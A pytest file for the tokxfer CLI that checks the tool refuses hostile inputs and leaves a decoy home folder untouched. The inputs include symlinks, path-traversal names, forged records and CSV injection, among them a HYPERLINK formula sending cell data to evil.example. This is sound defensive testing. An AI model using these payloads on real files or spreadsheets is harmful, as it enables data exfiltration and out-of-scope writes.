"""Hostile inputs, seen by an attacker (or an unlucky user): tokxfer never touches what is not its own.

Every case plants something — a symbolic link in the cache, a cache variable pointing at a home
folder, a spec whose name climbs out of ``--out``, a record that lies about its trial or its
experiment, a formula in a method id, a hot journal, claims from another container, a claim from
the future — and asserts the exit code, the one line tokxfer prints, and that nothing outside the
folders the command was given changed: a decoy home (``thesis/``, ``.ssh/``, ``Documents/``) is
snapshotted before and compared after. Nothing here loads a model; the claim tests run stand-in
trials in worker processes.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml

from harness.cache import MARKER, cached_dir, ensure_root, list_entries
from harness.run import records
from harness.run.claims import TrialClaims
from harness.run.config import parse_experiment
from tests.cli.test_init_cli import cli

REPO = Path(__file__).resolve().parents[2]


# ---------------------------------------------------------------------------------------------
# helpers


@pytest.fixture()
def decoy(tmp_path) -> Path:
    """A fake home folder full of things nobody wants deleted or uploaded."""
    home = tmp_path / "home"
    for rel, text in {"thesis/chapter1.tex": "\\chapter{One}", "thesis/figures/plot.png": "PNG",
                      ".ssh/id_rsa": "-----BEGIN KEY-----", "Documents/notes.md": "# notes",
                      "secret/id_rsa": "-----BEGIN OTHER KEY-----", "old.png": "mine"}.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    return home


def snapshot(*roots: Path) -> dict[str, tuple]:
    """Every path under ``roots`` with its kind and content (a link: its target), never following links."""
    out: dict[str, tuple] = {}
    for root in roots:
        if not root.exists() and not root.is_symlink():
            out[str(root)] = ("absent",)
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            for name in dirnames + filenames:
                p = Path(dirpath) / name
                if p.is_symlink():
                    out[str(p)] = ("link", os.readlink(p))
                elif p.is_dir():
                    out[str(p)] = ("dir", p.stat().st_mode & 0o777)
                else:
                    out[str(p)] = ("file", p.read_bytes(), p.stat().st_mtime_ns)
    return out


def one_line(err: str) -> str:
    """The single ``tokxfer: error:`` line of stderr (and no traceback)."""
    assert "Traceback" not in err, err
    lines = [ln for ln in err.splitlines() if ln.startswith("tokxfer:")]
    assert len(lines) == 1 and lines[0].startswith("tokxfer: error: "), err
    return lines[0]


def refused(capfd, needles, *argv) -> str:
    code, _, err = cli(capfd, *argv)
    line = one_line(err)
    assert code == 2, err
    for n in needles:
        assert str(n) in line, (n, line)
    return line


def _record(experiment: str, trial_id: str, method: str = "random", seed: int = 1, loss: float = 6.0,
            config: dict | None = None) -> dict:
    return {"schema_version": records.SCHEMA_VERSION, "tokxfer_version": "0", "trial_id": trial_id,
            "experiment": experiment, "status": "ok", "seed": seed,
            "metrics": {"near": {"loss": loss, "accuracy": 0.5, "perplexity": 400.0}},
            "config": config or {"method": {"id": method, "name": "random", "config": {}}, "task": {"name": "mlm-at-init"},
                                 "target": {"language": "near"}, "encoding": {"name": "none"}, "seed": seed}}


def _write(runs: Path, experiment: str, recs: list[dict], name=None) -> Path:
    d = runs / experiment / "records"
    d.mkdir(parents=True, exist_ok=True)
    for r in recs:
        (d / f"{name or r['trial_id']}.json").write_text(json.dumps(r))
    return runs / experiment


GRID = {"name": "grid", "world": {"size": "tiny", "seed": 0}, "targets": [{"language": "near"}],
        "methods": ["random", "overlap"], "tasks": ["mlm-at-init"], "seeds": [1, 2]}


# ---------------------------------------------------------------------------------------------
# 1. the cache: own folders only


def test_prune_removes_symlinked_entries_as_links_never_their_targets(tmp_path, decoy, monkeypatch, capfd):
    root = tmp_path / "cache"
    monkeypatch.setenv("TOKXFER_CACHE", str(root))
    real = cached_dir("inits", {"k": 1}, lambda d: (d / "m.npz").write_bytes(b"x" * 100))
    (real / "thesis-link").symlink_to(decoy / "thesis")  # a link inside an entry
    (root / "inits" / ("ab" * 10)).symlink_to(decoy / "thesis")  # a link with an entry's name
    (root / "inits" / "abc").symlink_to(decoy / "Documents")
    (root / "tokenizers").symlink_to(decoy)  # a whole kind folder that is a link
    (root / "inits" / "mine.txt").write_text("a file tokxfer never writes")
    before = snapshot(decoy)
    code, out, err = cli(capfd, "cache", "prune", "--all")
    assert code == 0, err
    assert "2 of them symbolic links" in out and "left alone 1 entry tokxfer did not write (inits/mine.txt)" in out
    assert snapshot(decoy) == before
    assert sorted(p.name for p in (root / "inits").iterdir()) == ["mine.txt"]
    assert (root / "tokenizers").is_symlink(), "a kind folder that is a link is never entered"


def test_prune_all_refuses_a_folder_that_is_not_a_tokxfer_cache(decoy, monkeypatch, capfd):
    monkeypatch.setenv("TOKXFER_CACHE", str(decoy))
    before = snapshot(decoy)
    refused(capfd, [decoy, "not a tokxfer cache", MARKER, "tokxfer cache init"], "cache", "prune", "--all")
    refused(capfd, [decoy, "not a tokxfer cache"], "cache", "ls")
    # adopting it is refused too: nothing in a home folder looks like tokxfer's layout
    refused(capfd, [decoy, "not laid out like a tokxfer cache", "refusing to adopt"], "cache", "init")
    assert snapshot(decoy) == before


def test_an_older_cache_is_adopted_only_by_cache_init(tmp_path, monkeypatch, capfd):
    root = tmp_path / "old-cache"
    entry = cached_dir("tokenizers", {"k": 1}, lambda d: (d / "t.json").write_text("{}"), root=root)
    (root / MARKER).unlink()  # what an older tokxfer left: its layout, no marker
    ft = root / "fasttext" / f"pretok-{'0' * 24}.txt"
    ft.parent.mkdir()
    ft.write_text("words")
    monkeypatch.setenv("TOKXFER_CACHE", str(root))
    refused(capfd, [root, "cache init"], "cache", "prune", "--all")
    ensure_root()  # a writer never adopts a folder that has contents
    assert not (root / MARKER).exists() and entry.exists()
    code, out, _ = cli(capfd, "cache", "init")
    assert code == 0 and "adopted 2 entries" in out and (root / MARKER).is_file()
    code, out, _ = cli(capfd, "cache", "prune", "--all")
    assert code == 0 and not entry.exists() and not ft.exists()


@pytest.mark.parametrize("var", ["TOKXFER_CACHE", "XDG_CACHE_HOME"])
def test_relative_cache_variables_are_refused_before_anything_runs(tmp_path, monkeypatch, capfd, var):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TOKXFER_CACHE")
    monkeypatch.setenv(var, "rel/cache")
    exp = tmp_path / "e.yaml"
    exp.write_text(yaml.safe_dump(GRID))
    for argv in (["cache", "ls"], ["validate", exp], ["run", exp, "--no-tracking"]):
        refused(capfd, [f"{var}='rel/cache'", "absolute path"], *argv)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.yaml"], "nothing created relative to the working folder"
    monkeypatch.setenv(var, str(tmp_path / "abs" / ".." / "abs2"))  # absolute values are normalized once
    from harness.cache import cache_root

    assert cache_root() == tmp_path / "abs2" / ("tokxfer" if var == "XDG_CACHE_HOME" else "")


# ---------------------------------------------------------------------------------------------
# 1. leaderboards: names are names, writes and deletes stay under --out


def _spec(path: Path, name: str, experiments=("exp",)) -> Path:
    path.write_text(yaml.safe_dump({
        "name": name, "version": 1, "experiments": list(experiments),
        "metrics": {"loss": {"direction": "lower"}},
        "columns": [{"task": "mlm-at-init", "languages": ["near"], "metrics": ["loss"]}], "rows": "all"}))
    return path


@pytest.mark.parametrize("field, value", [("name", "../../x"), ("name", ".hidden"), ("name", "a/b"),
                                          ("experiments", "../../etc")])
def test_spec_names_that_leave_out_are_refused(tmp_path, decoy, capfd, field, value):
    runs = tmp_path / "runs"
    _write(runs, "exp", [_record("exp", "t1")])
    victim = tmp_path / "x"  # where ../../x from --out would land
    victim.mkdir()
    (victim / "figure.png").write_text("someone's figure")
    out = tmp_path / "lb" / "out"
    spec = _spec(tmp_path / "s.yaml", value if field == "name" else "ok", [value] if field == "experiments" else ["exp"])
    before = snapshot(decoy, victim, runs)
    refused(capfd, ["s.yaml", field, repr(value), "cannot be"], "leaderboard", spec, "--runs-dir", runs, "--out", out)
    assert snapshot(decoy, victim, runs) == before and not out.exists()


def test_plots_folder_that_is_a_link_out_of_out_is_refused(tmp_path, decoy, capfd):
    runs = tmp_path / "runs"
    _write(runs, "exp", [_record("exp", "t1"), _record("exp", "t2", seed=2)])
    out = tmp_path / "out"
    out.mkdir()
    (out / "plots").symlink_to(decoy)
    before = snapshot(decoy)
    refused(capfd, ["--out", "outside", str(out / "plots" / "t")], "leaderboard", _spec(tmp_path / "s.yaml", "t"),
            "--runs-dir", runs, "--out", out)
    assert snapshot(decoy) == before


def test_the_plot_writer_deletes_only_the_figures_it_wrote(tmp_path, capfd):
    runs = tmp_path / "runs"
    _write(runs, "exp", [_record("exp", "t1"), _record("exp", "t2", seed=2)])
    out = tmp_path / "out"
    figs = out / "plots" / "t"
    figs.mkdir(parents=True)
    (figs / "mine.png").write_text("a figure the user put here")
    spec = _spec(tmp_path / "s.yaml", "t")
    for _ in range(2):
        assert cli(capfd, "leaderboard", spec, "--runs-dir", runs, "--out", out)[0] == 0
    manifest = json.loads((figs / ".tokxfer-plots.json").read_text())["written"]
    assert manifest == ["bars-mlm-at-init-loss.png"]
    assert (figs / "mine.png").read_text() == "a figure the user put here"
    # a manifest that names files outside the folder is never followed
    (figs / ".tokxfer-plots.json").write_text(json.dumps({"written": ["../../../x.png", "mine.png/../y", "mine.png"]}))
    assert cli(capfd, "leaderboard", spec, "--runs-dir", runs, "--out", out)[0] == 0
    assert not (figs / "mine.png").exists()  # it was listed, by name, inside the folder: the only deletion


# ---------------------------------------------------------------------------------------------
# 3. CSV cells that a spreadsheet would run


def test_csv_formula_cells_are_neutralized_and_numbers_kept(tmp_path, capfd):
    runs = tmp_path / "runs"
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tx", "\rx", "<script>x"]
    recs = [_record("exp", f"t{i}{s}", method=m, seed=s, loss=-0.35 - i)
            for i, m in enumerate(["focus", *evil]) for s in (1, 2)]
    _write(runs, "exp", recs)
    out = tmp_path / "out"
    code, _, err = cli(capfd, "leaderboard", _spec(tmp_path / "s.yaml", "t"), "--runs-dir", runs, "--out", out)
    assert code == 0, err
    with open(out / "t.csv", encoding="utf-8", newline="") as f:  # as a spreadsheet reads it: a lone CR is data
        rows = list(csv.DictReader(f))
    methods = {r["method"] for r in rows}
    assert methods == {"focus", "<script>x", *("'" + m for m in evil[:-1])}
    assert {r["label"] for r in rows} == methods
    assert all(r["mean"].startswith("-") and float(r["mean"]) < 0 for r in rows), "negative numbers stay numbers"
    html = (out / "t.html").read_text()
    assert "<script>x" not in html and "&lt;script&gt;x" in html


# ---------------------------------------------------------------------------------------------
# 2. records are untrusted input


def _store(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'store' / 'mlflow.db'}"


def _uploaded(tmp_path: Path) -> list[str]:
    return sorted(p.name for p in (tmp_path / "store").rglob("*") if p.is_file() and "id_rsa" in p.name)


def test_sync_refuses_a_record_whose_trial_id_is_a_path(tmp_path, decoy, capfd):
    runs = tmp_path / "runs"
    exp = _write(runs, "exp", [_record("exp", "../../../secret")], name="abc")
    secret = (exp / "artifacts" / "../../../secret").resolve()  # where the record's trial id points
    assert secret == tmp_path / "secret"
    secret.mkdir()
    (secret / "id_rsa").write_text("-----BEGIN KEY-----")
    before = snapshot(decoy, secret)
    refused(capfd, ["abc.json", "trial_id", "'../../../secret'", "not a trial id"],
            "sync", exp, "--tracking-uri", _store(tmp_path))
    assert snapshot(decoy, secret) == before and _uploaded(tmp_path) == []


def test_sync_refuses_an_artifact_that_links_out_of_the_trial_folder(tmp_path, decoy, capfd):
    runs = tmp_path / "runs"
    exp = _write(runs, "exp", [_record("exp", "0123456789abcdef")])
    art = exp / "artifacts" / "0123456789abcdef"
    art.mkdir(parents=True)
    (art / "init_info.json").write_text("{}")
    (art / "id_rsa").symlink_to(decoy / ".ssh" / "id_rsa")
    before = snapshot(decoy)
    refused(capfd, ["artifact of trial 0123456789abcdef", "id_rsa", "outside"], "sync", exp, "--tracking-uri", _store(tmp_path))
    assert snapshot(decoy) == before and _uploaded(tmp_path) == []
    # the trial folder itself a link out: refused the same way
    (art / "id_rsa").unlink()
    shutil.rmtree(art)
    art.symlink_to(decoy / "secret")
    refused(capfd, ["artifact of trial", "outside"], "sync", exp, "--tracking-uri", _store(tmp_path))
    assert snapshot(decoy) == before and _uploaded(tmp_path) == []


def test_a_record_claiming_another_experiment_never_touches_its_runs(tmp_path, capfd):
    from harness.run.tracking import make_tracker

    runs, uri = tmp_path / "runs", _store(tmp_path)
    theirs = _write(runs, "theirs", [_record("theirs", "t1", loss=1.0)])
    assert cli(capfd, "sync", theirs, "--tracking-uri", uri)[0] == 0
    tracker = make_tracker(uri, runs)
    before = tracker.mirrored("theirs")
    mine = _write(runs, "mine", [_record("theirs", "t1", loss=99.0)])
    refused(capfd, ["t1.json", "experiment 'theirs'", "experiment 'mine'"], "sync", mine, "--tracking-uri", uri)
    assert make_tracker(uri, runs).mirrored("theirs") == before
    # a run in our MLflow experiment that another tool tagged with our trial id is never replaced
    client = tracker.client
    eid = client.get_experiment_by_name("theirs").experiment_id
    foreign = client.create_run(eid, tags={"tokxfer.trial_id": "t1", "tokxfer.role": "trial",
                                           "tokxfer.experiment": "someone-else"}).info.run_id
    _write(runs, "theirs", [_record("theirs", "t1", loss=2.0)])  # the record changed: its mirror is replaced
    code, out, err = cli(capfd, "sync", theirs, "--tracking-uri", uri)
    assert code == 0 and "'replaced': 1" in out, err
    assert client.get_run(foreign).info.lifecycle_stage == "active"


def test_resume_refuses_a_record_copied_under_another_trials_name(tmp_path, decoy, capfd):
    exp = tmp_path / "grid.yaml"
    exp.write_text(yaml.safe_dump(GRID))
    trials = parse_experiment(GRID).trials()
    runs = tmp_path / "runs"
    good = _record("grid", trials[0].trial_id, config=json.loads(json.dumps(trials[0].resolved())))
    d = _write(runs, "grid", [good]) / "records"
    copied = d / f"{trials[1].trial_id}.json"
    shutil.copy(d / f"{trials[0].trial_id}.json", copied)  # trial 2 never ran
    before = snapshot(decoy, d)
    refused(capfd, [copied, f"holds trial '{trials[0].trial_id}'", "copied or renamed"],
            "run", exp, "--runs-dir", runs, "--no-tracking", "--quiet")
    assert snapshot(decoy, d) == before
    # the same record with its id rewritten to the file's name: its config gives it away
    copied.write_text(json.dumps({**good, "trial_id": trials[1].trial_id}))
    before = snapshot(decoy, d)
    refused(capfd, [copied, "its config (hash", f"not the config of trial {trials[1].trial_id}"],
            "run", exp, "--runs-dir", runs, "--no-tracking", "--quiet")
    assert snapshot(decoy, d) == before, "nothing ran, nothing was overwritten"


# ---------------------------------------------------------------------------------------------
# 4. a hot journal is healed, not called broken


def test_a_hot_journal_from_a_killed_commit_is_rolled_back_not_called_broken(tmp_path, capfd):
    from harness.run.store import check_sqlite_store

    runs = tmp_path / "runs"
    exp = _write(runs, "exp", [_record("exp", f"t{i}", seed=i) for i in range(1, 4)])
    db = runs / "mlflow.db"
    # created by another process: this one has not checked it yet, as a later `tokxfer sync` would not have
    subprocess.run([sys.executable, "-c", f"from harness.run.store import ensure_sqlite_store; ensure_sqlite_store({str(db)!r})"],
                   env={**os.environ, "PYTHONPATH": str(REPO)}, check=True, capture_output=True)
    killed = subprocess.run([sys.executable, "-c", f"""
import os, signal, sqlite3
con = sqlite3.connect({str(db)!r}, isolation_level=None)
con.execute("PRAGMA cache_size=1")  # spill changed pages into the database before the commit
con.execute("BEGIN IMMEDIATE")
con.execute("UPDATE alembic_version SET version_num = 'half-written'")
con.execute("CREATE TABLE junk (x BLOB)")
for _ in range(300):
    con.execute("INSERT INTO junk VALUES (randomblob(4000))")
os.kill(os.getpid(), signal.SIGKILL)
"""])
    assert killed.returncode == -signal.SIGKILL
    journal = db.with_name("mlflow.db-journal")
    assert journal.stat().st_size > 0, "the kill left a hot journal"
    copy = tmp_path / "copy.db"  # the health verdict itself, on a copy of the store and its journal
    shutil.copy(db, copy)
    shutil.copy(journal, copy.with_name("copy.db-journal"))
    assert check_sqlite_store(copy) is None and not copy.with_name("copy.db-journal").exists()
    code, out, err = cli(capfd, "sync", exp)
    assert code == 0 and "'created': 3" in out, err
    assert not journal.exists() and check_sqlite_store(db) is None
    import sqlite3

    con = sqlite3.connect(db)
    try:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert con.execute("SELECT count(*) FROM sqlite_master WHERE name = 'junk'").fetchone() == (0,)
    finally:
        con.close()


# ---------------------------------------------------------------------------------------------
# 5. claims across PID namespaces and under clock skew

WORKER = r'''
import json, os, sys, time
from pathlib import Path
from harness.run import records
from harness.run.claims import TrialClaims, owner_identity
from harness.run.config import parse_experiment
from tests.cli.test_init_cli import cli
from harness.run.executors import LocalExecutor
from harness.run.experiment import run_experiment

grid, runs, count, label, fake_pid, fork = sys.argv[1:7]
cfg = parse_experiment(json.loads(grid))

def fake(spec, runs_dir, progress=False):
    time.sleep(0.15)
    with open(count, "a") as f:
        f.write(spec.trial_id + " " + label + "\n")
    rec = {"schema_version": records.SCHEMA_VERSION, "trial_id": spec.trial_id, "experiment": spec.experiment,
           "status": "ok", "seed": spec.seed, "config": json.loads(json.dumps(spec.resolved())),
           "metrics": {spec.target.language: {"loss": 1.0, "accuracy": 0.1, "perplexity": 2.7}}}  # complete: resume skips it
    records.write_record(Path(runs_dir) / spec.experiment / "records", rec)
    return rec

def work():
    identity = owner_identity() if label == "real" else {"boot_id": "b", "pidns": label}
    claims = TrialClaims(Path(runs) / cfg.name, identity=identity,
                         owner_pid=int(fake_pid) if fake_pid != "-" else None)
    Path(runs, f"ready-{os.getpid()}-{label}").touch()  # start together: the grid is split, not run twice
    deadline = time.monotonic() + 120
    while len(list(Path(runs).glob("ready-*"))) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    s = run_experiment(cfg, runs, executor=LocalExecutor(progress=False), progress=False, claims=claims,
                       trial_fn=fake, poll_s=0.1)
    print("ran", s.ran, "pid", os.getpid(), "pidns", os.readlink("/proc/self/ns/pid"), flush=True)  # os._exit follows in the forked worker

if fork == "fork":  # in a fresh PID namespace: run as pid 100000, a pid the other namespace does not have
    with open("/proc/sys/kernel/ns_last_pid", "w") as f:  # this namespace's counter (root in it may set it)
        f.write("99999")
    child = os.fork()
    if child == 0:
        work()
        os._exit(0)
    sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
work()
'''

BIG_GRID = dict(GRID, seeds=list(range(1, 11)))  # 2 methods x 10 seeds = 20 trials


def _run_workers(tmp_path, commands) -> tuple[dict, list]:
    runs, count = tmp_path / "runs", tmp_path / "count.txt"
    runs.mkdir()
    script = tmp_path / "worker.py"
    script.write_text(WORKER)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    procs = [subprocess.Popen([*prefix, sys.executable, str(script), json.dumps(BIG_GRID), str(runs), str(count), *args],
                              env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for prefix, args in commands]
    outs = [p.communicate(timeout=600) for p in procs]
    for p, (_, err) in zip(procs, outs):
        assert p.returncode == 0, err
    lines = count.read_text().split("\n")[:-1]
    per_trial: dict[str, int] = {}
    for line in lines:
        per_trial[line.split()[0]] = per_trial.get(line.split()[0], 0) + 1
    return per_trial, outs


def test_workers_in_different_pid_namespaces_run_each_trial_once(tmp_path):
    """Two workers on one host name whose pids mean nothing to each other (simulated namespaces:
    each gives a pid that does not exist here): neither takes over the other's claims."""
    dead_a, dead_b = str(2**22 + 7), str(2**22 + 9)  # above any pid_max: no such process here
    per_trial, outs = _run_workers(tmp_path, [([], ["ns-a", dead_a, "-"]), ([], ["ns-b", dead_b, "-"])])
    assert len(per_trial) == 20 and set(per_trial.values()) == {1}, per_trial
    assert all(int(out.split()[1]) > 0 for out, _ in outs), f"the grid was not split: {outs}"
    assert len(list(records.iter_records(tmp_path / "runs" / "grid"))) == 20


def _unshare_works() -> bool:
    if shutil.which("unshare") is None or not Path("/proc/self/ns/pid").exists():
        return False
    try:
        return subprocess.run(["unshare", "--pid", "--fork", "true"], capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


@pytest.mark.skipif(not _unshare_works(), reason="needs `unshare --pid --fork` (root, or user namespaces)")
def test_workers_in_real_pid_namespaces_run_each_trial_once(tmp_path):
    """The same with real PID namespaces (``unshare --pid --fork``): one worker is pid 1 of its
    namespace, the other pid 100000 of its own; so the first would find the second's pid dead and
    the second the first's alive (its own parent): only the namespace in the claim tells them apart."""
    per_trial, outs = _run_workers(tmp_path, [(["unshare", "--pid", "--fork"], ["real", "-", "-"]),
                                              (["unshare", "--pid", "--fork"], ["real", "-", "fork"])])
    assert len(per_trial) == 20 and set(per_trial.values()) == {1}, per_trial
    namespaces = {out.split("pidns ")[1].strip() for out, _ in outs}
    assert sorted(int(out.split("pid ")[1].split()[0]) for out, _ in outs) == [1, 100000], outs
    assert len(namespaces) == 2 and os.readlink("/proc/self/ns/pid") not in namespaces, outs


def _fake_trial(spec, runs_dir, progress=False):
    rec = {"schema_version": records.SCHEMA_VERSION, "trial_id": spec.trial_id, "experiment": spec.experiment,
           "status": "ok", "seed": spec.seed, "config": json.loads(json.dumps(spec.resolved())),
           "metrics": {spec.target.language: {"loss": 1.0, "accuracy": 0.1, "perplexity": 2.7}}}  # complete: resume skips it
    records.write_record(Path(runs_dir) / spec.experiment / "records", rec)
    return rec


def _run_bounded(cfg, runs, claims, seconds: float):
    from harness.run.executors import LocalExecutor
    from harness.run.experiment import run_experiment

    result: dict = {}
    t = threading.Thread(target=lambda: result.update(summary=run_experiment(
        cfg, runs, executor=LocalExecutor(progress=False), progress=False, claims=claims, trial_fn=_fake_trial,
        poll_s=0.05)), daemon=True)
    t0 = time.monotonic()
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"run_experiment still waiting after {seconds}s"
    return result["summary"], time.monotonic() - t0


@pytest.mark.parametrize("ahead_s, bound_s, within_s", [
    (10 * 365 * 86400.0, 300.0, 30.0),  # a clock years ahead: beyond the bound, stale at once
    (2.0, 1.5, 20.0),  # a few seconds ahead, but more than the bound: stale at once too
    (1.0, 2.0, 20.0),  # ahead, within the bound: stale once the heartbeat has not changed for the bound
])
def test_a_claim_from_the_future_ends_the_wait_within_the_stale_bound(tmp_path, caplog, ahead_s, bound_s, within_s):
    cfg = parse_experiment(GRID)
    runs = tmp_path / "runs"
    victim = cfg.trials()[0]
    claims_dir = runs / "grid" / "claims"
    claims_dir.mkdir(parents=True)
    claim = claims_dir / f"{victim.trial_id}.claim"
    claim.write_text(json.dumps({"host": "elsewhere", "pid": 1, "token": "x", "boot_id": "b", "pidns": "pid:[1]"}))
    future = time.time() + ahead_s
    os.utime(claim, (future, future))
    with caplog.at_level("WARNING", logger="tokxfer"):
        summary, took = _run_bounded(cfg, runs, TrialClaims(runs / "grid", stale_after_s=bound_s), within_s)
    assert summary.ran == 4 and summary.failed == 0
    takeover = [r.getMessage() for r in caplog.records if "taking over the claim" in r.getMessage()]
    assert len(takeover) == 1 and str(claim) in takeover[0] and "elsewhere:1" in takeover[0]
    assert ("in the future" in takeover[0]) == (ahead_s > bound_s)
    assert ("has not changed for" in takeover[0]) == (ahead_s <= bound_s)
    if ahead_s <= bound_s:
        assert took >= bound_s, "a live-looking claim is waited for, up to the bound"


def test_claims_of_a_pid_namespace_are_judged_by_heartbeat_only(tmp_path):
    here = TrialClaims(tmp_path, stale_after_s=60, identity={"boot_id": "b", "pidns": "pid:[1]"})
    there = TrialClaims(tmp_path, stale_after_s=60, identity={"boot_id": "b", "pidns": "pid:[2]"}, owner_pid=2**22 + 7)
    assert there.acquire("t") and not here.acquire("t"), "a dead-looking pid of another namespace is not taken over"
    old = time.time() - 120
    os.utime(there.path("t"), (old, old))
    assert here.acquire("t"), "a stopped heartbeat is"
    same = TrialClaims(tmp_path, stale_after_s=60, identity={"boot_id": "b", "pidns": "pid:[1]"})
    info = json.loads(here.path("t").read_text())
    here.path("t").write_text(json.dumps({**info, "pid": 2**22 + 12345}))  # same namespace, no such pid
    assert same.acquire("t"), "a dead pid of the same namespace is taken over at once"
    for c in (here, there, same):
        c.close()


# ---------------------------------------------------------------------------------------------
# 7. submitit's folder is private


def test_the_slurm_folder_is_private_and_someone_elses_is_refused(tmp_path):
    pytest.importorskip("submitit")
    from harness.run.executors import ExecutorError, SlurmExecutor, private_folder

    folder = tmp_path / "slurm"
    folder.mkdir(mode=0o777)
    os.chmod(folder, 0o777)
    SlurmExecutor(folder, {}, progress=False, cluster="debug")
    assert folder.stat().st_mode & 0o777 == 0o700
    assert private_folder(tmp_path / "jobs" / "%j", "--slurm-folder") == tmp_path / "jobs"
    assert (tmp_path / "jobs").stat().st_mode & 0o777 == 0o700
    if os.geteuid() == 0:
        other = tmp_path / "other"
        other.mkdir()
        os.chown(other, 12345, 12345)
        with pytest.raises(ExecutorError, match="belongs to another user"):
            private_folder(other, "--slurm-folder")


def test_list_entries_never_resolves_a_link(tmp_path, decoy):
    root = ensure_root(tmp_path / "c")
    (root / "inits").mkdir()
    (root / "inits" / "x").symlink_to(decoy)
    [e] = list_entries(root)
    assert e.link and not e.owned and e.path == root / "inits" / "x"
